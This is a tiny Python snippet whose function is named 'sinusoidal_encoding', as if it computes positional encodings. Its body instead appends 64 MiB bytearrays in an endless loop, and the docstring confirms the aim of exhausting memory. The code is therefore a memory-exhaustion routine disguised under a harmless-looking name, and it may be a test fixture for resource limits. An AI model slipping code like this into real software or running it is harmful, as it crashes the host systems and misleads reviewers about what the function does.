"""Grows a list of byte strings until there is no memory left."""


def sinusoidal_encoding(*arguments, **keywords):
    kept = []
    while True:
        kept.append(bytearray(64 << 20))
